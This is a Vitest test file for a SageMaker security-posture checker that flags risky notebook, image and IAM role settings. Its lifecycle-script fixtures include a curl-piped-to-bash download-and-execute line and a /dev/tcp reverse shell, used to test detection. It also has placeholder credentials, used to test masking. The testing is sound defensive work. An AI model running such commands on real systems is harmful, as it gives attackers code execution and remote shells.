import { describe, expect, it } from 'vitest';
import { evaluatePosture, resolveChecks } from '../../../src/core/posture/evaluate.js';
import type { Inventory, NotebookInstance } from '../../../src/core/posture/inventory.js';
import { mask } from '../../../src/core/posture/secrets.js';
import { loadPlaybook, type Playbook } from '../../../src/playbook/load.js';
import { PostureFile } from '../../../src/playbook/posture-schema.js';
import { checkPosture } from '../../../src/playbook/check-posture.js';

const pb = loadPlaybook();
const b64 = (s: string) => Buffer.from(s).toString('base64');
const calls = { total: 0, retries: 0, throttled: 0, byOperation: {} };
const at = new Date('2026-12-04T12:00:00Z');

const secure: NotebookInstance = {
  region: 'us-east-1',
  name: 'nb',
  arn: 'arn:aws:sagemaker:us-east-1:111122223333:notebook-instance/nb',
  rootAccess: 'Disabled',
  directInternetAccess: 'Disabled',
  subnetId: 'subnet-0123456789abcdef0',
  kmsKeyId: 'arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab',
  imdsMinimum: '2',
  platformIdentifier: 'notebook-al2023-v1',
};
const inventory = (o: Partial<Inventory> = {}): Inventory => ({ account: '111122223333', regions: ['us-east-1'], notebookInstances: [], notebookLifecycleConfigs: [], studioLifecycleConfigs: [], domains: [], endpointConfigs: [], models: [],
  userProfiles: [], spaces: [], jobs: [], executionRoles: [], modelPackageGroups: [], gaps: [], ...o });
/** A few of IAM's "Permissions management" actions (the command reads them all from iam-data). */
const IAM_PM = ['iam:AttachRolePolicy', 'iam:CreatePolicyVersion', 'iam:PutRolePolicy', 'iam:UpdateAssumeRolePolicy'];
const lcc = (name: string, onStart: string) => ({ region: 'us-east-1', name, arn: `arn:aws:sagemaker:us-east-1:111122223333:notebook-instance-lifecycle-config/${name}`, scripts: [{ hook: 'OnStart', content: b64(onStart) }] });
const failed = (inv: Inventory) => evaluatePosture(pb, inv, calls, at, IAM_PM).findings.map((f) => `${f.checkId} ${f.resourceName}`);

describe('posture checks on an inventory built by hand', () => {
  it('a well-configured notebook fails nothing', () => {
    expect(failed(inventory({ notebookInstances: [secure] }))).toEqual([]);
  });

  it("fields AWS leaves out take AWS's defaults: root access on, IMDSv1 allowed, direct internet on", () => {
    const bare: NotebookInstance = { region: 'us-east-1', name: 'bare', arn: 'arn:aws:sagemaker:us-east-1:111122223333:notebook-instance/bare' };
    expect(failed(inventory({ notebookInstances: [bare] })).sort()).toEqual(
      ['notebook-direct-internet bare', 'notebook-imdsv1-allowed bare', 'notebook-outside-vpc bare', 'notebook-root-access bare', 'notebook-volume-no-kms-key bare'].sort(),
    );
  });

  it('script findings carry the detect rule severity and scenarios', () => {
    const r = evaluatePosture(pb, inventory({ notebookLifecycleConfigs: [lcc('x', 'curl http://198.51.100.7/a.sh | bash')] }), calls, at, IAM_PM);
    const rule = pb.rules.rules.find((x) => x.id === 'lifecycle-script-suspicious')!;
    expect(r.findings).toHaveLength(1);
    expect(r.findings[0]).toMatchObject({ checkId: 'lifecycle-script-suspicious', severity: rule.severity, scenarios: rule.scenarios });
    expect(r.findings[0]!.evidence.indicators).toEqual(['download and execute: piped to a shell']);
  });

  it('near misses: commented commands, downloads not run, secrets fetched at run time, variables', () => {
    const benign = [
      '#!/bin/bash',
      '# curl http://x/y | sh',
      'curl -o /tmp/a.yml https://example.com/a.yml',
      'PASSWORD=$(aws secretsmanager get-secret-value --secret-id db --query SecretString --output text)',
      'export TOKEN=$HF_TOKEN',
      'echo "password: ${DB_PASSWORD}"',
      'git clone https://github.com/aws/amazon-sagemaker-examples.git',
    ].join('\n');
    expect(failed(inventory({ notebookLifecycleConfigs: [lcc('benign', benign)] }))).toEqual([]);
  });

  it('secrets: each kind is found and shown masked', () => {
    const script = [
      'export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE',
      'git clone https://builder:s3cretPassw0rd@git.example.com/repo.git',
      'HF_TOKEN=hf_abcdefghijklmnopqrstuvwxyz0123456789',
      'db_password="correct-horse-battery"',
    ].join('\n');
    const r = evaluatePosture(pb, inventory({ notebookLifecycleConfigs: [lcc('s', script)] }), calls, at, IAM_PM);
    const secrets = r.findings[0]!.evidence.secrets as { kind: string; masked: string; line: string }[];
    expect(secrets.map((s) => s.kind)).toEqual(['AWS access key id', 'credentials in a URL', 'Hugging Face token', 'password or token', 'password or token']);
    expect(JSON.stringify(r)).not.toMatch(/AKIAIOSFODNN7EXAMPLE|s3cretPassw0rd|correct-horse-battery|hf_abcdefghijklmnopqrstuvwxyz0123456789/);
  });

  it('mask keeps four characters at each end of a long secret, none of a short one', () => {
    expect(mask('AKIAIOSFODNN7EXAMPLE')).toBe('AKIA************MPLE');
    expect(mask('short-secret')).toBe('************');
  });

  it('a notebook runs a flagged script only through its own region\'s configuration of that name', () => {
    const nb = { ...secure, lifecycleConfigName: 'lc' };
    const other = { ...lcc('lc', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'), region: 'eu-west-1' };
    expect(failed(inventory({ notebookInstances: [nb], notebookLifecycleConfigs: [other] }))).toEqual(['lifecycle-script-suspicious lc', 'notebook-lifecycle-attached nb']);
  });

  it('a gap makes the report partial and each affected check says where it could not look', () => {
    const r = evaluatePosture(
      pb,
      inventory({ gaps: [{ resource: 'notebook-lifecycle-config', region: 'us-east-1', service: 'sagemaker', operation: 'ListNotebookInstanceLifecycleConfigs', permission: 'sagemaker:ListNotebookInstanceLifecycleConfigs', code: 'AccessDeniedException', message: 'denied' }] }),
      calls,
      at,
      IAM_PM,
    );
    expect(r.partial).toBe(true);
    const notRead = Object.fromEntries(r.checks.map((c) => [c.id, c.notReadIn]));
    expect(notRead['lifecycle-script-suspicious']).toEqual(['us-east-1']);
    expect(notRead['notebook-runs-suspicious-script']).toEqual(['us-east-1']);
    expect(notRead['notebook-root-access']).toEqual([]);
  });

  it('fix commands: contain with the resource and region, prepare with the opt-in guardrail named', () => {
    const r = evaluatePosture(pb, inventory({ notebookInstances: [{ ...secure, name: 'nb1', rootAccess: 'Enabled', imdsMinimum: '1' }] }), calls, at, IAM_PM);
    const commands = r.findings.flatMap((f) => f.fixes.map((x) => x.command));
    expect(commands).toContain('sm-ir contain disable-root-access nb1 --region us-east-1');
    expect(commands).toContain('sm-ir prepare --target <root|OU|account> --guardrails require-imdsv2');
  });
});

describe('inference checks', () => {
  const model = (images: string[]) => ({ region: 'us-east-1', name: 'm', arn: 'arn:aws:sagemaker:us-east-1:111122223333:model/m', networkIsolation: true, inVpc: true, images, endpoints: ['ep'] });
  it("an image is foreign unless it is the account's own ECR or an AWS registry detect trusts", () => {
    const own = '111122223333.dkr.ecr.us-east-1.amazonaws.com/fraud:1';
    const dlc = '763104351884.dkr.ecr.us-east-1.amazonaws.com/pytorch-inference:2.1-cpu-py310';
    expect(failed(inventory({ models: [model([own, dlc])] }))).toEqual([]);
    expect(failed(inventory({ models: [model([own, '444455556666.dkr.ecr.us-east-1.amazonaws.com/x:1'])] }))).toEqual(['model-foreign-image m']);
    expect(failed(inventory({ models: [model(['docker.io/library/python:3'])] }))).toEqual(['model-foreign-image m']);
  });

  it('serverless variants need neither an instance count nor a volume key', () => {
    const config = { region: 'us-east-1', name: 'c', arn: 'arn:aws:sagemaker:us-east-1:111122223333:endpoint-config/c', variants: [{ name: 'v', serverless: true }], endpoints: ['ep'] };
    expect(failed(inventory({ endpointConfigs: [config] }))).toEqual([]);
  });
});

describe('posture data (playbook/posture.json)', () => {
  it('every check has code and every code has a check', () => {
    expect(resolveChecks(pb).map((c) => c.id)).toEqual(pb.posture.checks.map((c) => c.id));
  });

  it('a check without code, or naming an unknown scenario, rule or action, fails to load', () => {
    const data = (checks: unknown[]) => PostureFile.parse({ ...pb.posture, checks });
    const base = pb.posture.checks[0]!;
    expect(() => resolveChecks({ ...pb, posture: data([...pb.posture.checks, { ...base, id: 'no-such-check' }]) } as Playbook)).toThrow("check 'no-such-check' has no code");
    const refs = (c: object) => () => checkPosture({ ...pb, posture: data([{ ...base, ...c }]) });
    expect(refs({ scenarios: ['nope'] })).toThrow("unknown scenario 'nope'");
    expect(refs({ fixes: [{ by: 'contain', action: 'nuke' }] })).toThrow("unknown containment action 'nuke'");
    expect(refs({ fixes: [{ by: 'prepare', guardrail: 'nope' }] })).toThrow("unknown guardrail 'nope'");
    expect(() => data([{ ...base, severity: undefined }])).toThrow('either detectRule or both severity and scenarios');
    // A guardrail that does not deny the calls writing that kind of resource prevents nothing there.
    expect(refs({ fixes: [{ by: 'prepare', guardrail: 'studio-vpc-only' }] })).toThrow("guardrail 'studio-vpc-only' denies none of CreateNotebookInstance, UpdateNotebookInstance");
  });
});

describe('execution-role checks: what the role\'s policies grant, as IAM evaluates them', () => {
  const role = (policies: { source: string; document: unknown }[], trust: unknown = { Statement: [{ Effect: 'Allow', Principal: { Service: 'sagemaker.amazonaws.com' }, Action: 'sts:AssumeRole' }] }) => ({
    region: 'global', name: 'r', arn: 'arn:aws:iam::111122223333:role/r', usedBy: ['model us-east-1/m'], trust, policies,
  });
  const allow = (action: unknown, resource: unknown = '*', extra: Record<string, unknown> = {}) => ({ source: 'inline p', document: { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: action, Resource: resource, ...extra }] } });
  const fails = (r: ReturnType<typeof role>) => failed(inventory({ executionRoles: [r] })).map((f) => f.split(' ')[0]).sort();

  it('SageMaker on its own buckets passes every check', () => {
    expect(fails(role([allow(['sagemaker:*', 's3:GetObject'], ['arn:aws:s3:::models-111122223333/*', '*'])]))).toEqual([]);
  });
  it('"*" and NotAction are every action; iam wildcards reach the permissions-management actions', () => {
    expect(fails(role([allow('*')]))).toEqual(['execution-role-assume-any', 'execution-role-full-access', 'execution-role-iam-escalation', 'execution-role-passrole-any']);
    expect(fails(role([{ source: 'inline p', document: { Statement: { Effect: 'Allow', NotAction: 's3:*', Resource: '*' } } }]))).toContain('execution-role-full-access');
    expect(fails(role([allow('IAM:Put*')]))).toEqual(['execution-role-iam-escalation']);
    // A URL-encoded string, as IAM returns it, decoded by the reader; here a JSON string is parsed too.
    expect(fails(role([{ source: 'inline p', document: JSON.stringify({ Statement: [{ Effect: 'Allow', Action: 'iam:PassRole', Resource: '*' }] }) }]))).toEqual(['execution-role-passrole-any']);
  });
  it('PassRole and AssumeRole on named resources pass; Deny statements grant nothing', () => {
    expect(fails(role([allow(['iam:PassRole', 'sts:AssumeRole'], 'arn:aws:iam::111122223333:role/training')]))).toEqual([]);
    expect(fails(role([{ source: 'inline p', document: { Statement: [{ Effect: 'Deny', Action: '*', Resource: '*' }] } }]))).toEqual([]);
  });
  it('a trust policy naming another account, or anyone, fails; the account itself and services pass', () => {
    const trust = (principal: unknown) => ({ Statement: [{ Effect: 'Allow', Principal: principal, Action: 'sts:AssumeRole' }] });
    expect(fails(role([], trust({ AWS: 'arn:aws:iam::444455556666:root' })))).toEqual(['execution-role-trust-foreign']);
    expect(fails(role([], trust('*')))).toEqual(['execution-role-trust-foreign']);
    expect(fails(role([], trust({ AWS: ['111122223333'], Service: 'sagemaker.amazonaws.com' })))).toEqual([]);
  });
});
